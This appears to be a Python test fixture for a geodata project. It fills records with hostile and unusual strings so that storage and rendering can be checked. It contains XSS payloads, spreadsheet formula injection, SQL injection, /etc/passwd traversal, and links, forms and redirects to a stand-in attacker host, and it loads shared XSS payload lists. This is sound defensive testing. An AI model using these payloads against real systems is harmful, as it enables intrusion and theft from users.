"""Facts whose every text is an attack or an oddity. Own strings, and those of ``../shared/nasty`` when it is there."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Iterator
from itertools import count, islice, product

from geodata.model import Claim, Episode, Event, Facts, Place, PlaceName, Source
from geodata.space import Point
from tests.support import SHARED

EVENTS = 60
LONGEST = 600
"""Longer strings are cut: it is their kind that counts."""

_FORMULAS = (
    '=HYPERLINK("http://attacker.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
)
_CORES = (
    "<script>window.hgRan=1</script>",
    "<img src=x onerror=window.hgRan=1>",
    "<svg onload=window.hgRan=1>",
    "<svg><script>window.hgRan=1</script></svg>",
    "<iframe srcdoc='<script>parent.hgRan=1</script>'></iframe>",
    "<math><mi xlink:href='javascript:window.hgRan=1'>x</mi></math>",
    "<a href='javascript:window.hgRan=1'>click</a>",
    "<details open ontoggle=window.hgRan=1>",
    "<body onload=window.hgRan=1>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<base href=//attacker.example/>",
    "<meta http-equiv=refresh content='0;url=//attacker.example'>",
    "<form action=//attacker.example><button>Sign in</button></form>",
    "<!-- -->",
    "</textarea></title></style></script>",
    "![](http://attacker.example/x.png)",
    "[click](javascript:window.hgRan=1)",
    "`code` *bold* _under_ # title $x^2$ :smile: :red[x]",
    "${window.hgRan=1}",
    "`${window.hgRan=1}`",
    "{{name}}",
    "';window.hgRan=1;//",
    '";window.hgRan=1;//',
    "\\u003cscript\\u003ewindow.hgRan=1\\u003c/script\\u003e",
    "&lt;b&gt;&amp;&quot;&#39;",
    *_FORMULAS,
    "'; DROP TABLE events; --",
    "../../../../etc/passwd",
    "%3Cscript%3E %00 %0d%0a",
    "__proto__ constructor toString hasOwnProperty",
    "null undefined NaN true [object Object]",
    'O\'Brien "x" <b> & \\ `',
    "user\u202egnp.exe",
    "A\u200bl\u200cm\u200da\ufeffty",
    "\u0410lm\u0430ty vs Almaty",
    "Ә Ұ Ң Ө Ү Қ Ғ Һ І",
    "Z" + "\u0300\u0301\u0302\u0303" * 40,
    "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇰🇿",
    "مرحبا שלום नमस्ते 你好",
    "\ud55c\uad6d\uc5b4 \U0001d54f\U0001d56f \ufdfd",
    "W" * 300,
    "line one\nline two\r\nline three\ttab",
    "]]> <![CDATA[ x ]]> <?xml version='1.0'?>",
    "\u2028\u2029\x7f\x85",
)
_WRAPS = ("{}", 'before" {}', "it's {} after", "<b>{}</b>", "{} Бакай", "🚜 {}", "a, {}; b")


def strings() -> list[str]:
    """Return distinct hostile strings: our own in many wrappings, then the shared ones."""
    own = (wrap.replace("{}", core) for wrap, core in product(_WRAPS, _CORES))
    fit = (text[:LONGEST] for text in (*own, *_shared()))
    return list(dict.fromkeys(text for text in fit if _storable(text)))


def facts() -> Facts:
    """Return one episode of sixty events, each with a source and a place of its own, full of hostile strings."""
    pool = strings()
    supply = iter(pool[i % len(pool)] for i in count())
    parts = [_one(number, supply) for number in range(EVENTS)]
    episode = Episode("nasty", next(supply), next(supply), "place-0")
    columns = list(zip(*parts, strict=True))
    return Facts(
        sources=columns[0],
        places=columns[1],
        events=columns[2],
        claims=tuple(claim for claims in columns[3] for claim in claims),
        episodes=(episode,),
    )


def _one(number: int, supply: Iterator[str]) -> tuple[Source, Place, Event, tuple[Claim, ...]]:
    title, publisher, author, note = islice(supply, 4)
    source = Source(
        f"source-{number}",
        title,
        publisher,
        "press",
        author,
        url="https://news.example/a",
        note=note,
    )
    at = Point(76.8 + number % 10 / 20, 43.2 + number // 10 / 20)
    name, spelling, how, note = islice(supply, 4)
    names = (PlaceName(name, "en", main=True), PlaceName(spelling, "ru", kind="informal"))
    place = Place(
        f"place-{number}",
        "other",
        point=at,
        radius_m=900,
        names=names,
        coordinate_source=how,
        note=note,
    )
    title, summary, where, note = islice(supply, 4)
    title = _FORMULAS[number] if number < len(_FORMULAS) else title
    event = Event(
        f"NASTY-{number:02}",
        ("demolition_attempt", "clash", "arrest")[number % 3],
        title,
        summary,
        date=f"2006-05-{1 + number % 28:02}",
        place_id=place.place_id,
        where_as_written=where,
        episode_id="nasty",
        sequence=number + 1,
        note=note,
    )
    said = islice(supply, 4)
    claims = tuple(
        Claim(f"claim-{number}-{k}", event.event_id, source.source_id, field, text=text, note=more)
        for k, (field, text, more) in enumerate(zip(("event", "summary"), said, said, strict=True))
    )
    return source, place, event, claims


def _storable(text: str) -> bool:
    """No record holds nothing at all, U+0000 or half a character; the loader refuses them, which other tests show."""
    visible = any(not c.isspace() and unicodedata.category(c)[0] not in "CZ" for c in text)
    return (
        visible
        and "\x00" not in text
        and text.isascii() | (text.encode("utf-8", "ignore").decode() == text)
    )


def _shared() -> Iterator[str]:
    folder = SHARED / "nasty"
    if not folder.is_dir():
        return
    yield from _texts(json.loads((folder / "unicode" / "own_strings.json").read_text("utf-8")))
    yield from _texts(json.loads((folder / "xss" / "dompurify_payloads.json").read_text("utf-8")))
    yield from _texts(json.loads((folder / "text" / "blns.json").read_text("utf-8")))
    yield from (folder / "xss" / "payloadbox.txt").read_text("utf-8").splitlines()


def _texts(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for part in value.values() if isinstance(value, dict) else value:
            yield from _texts(part)
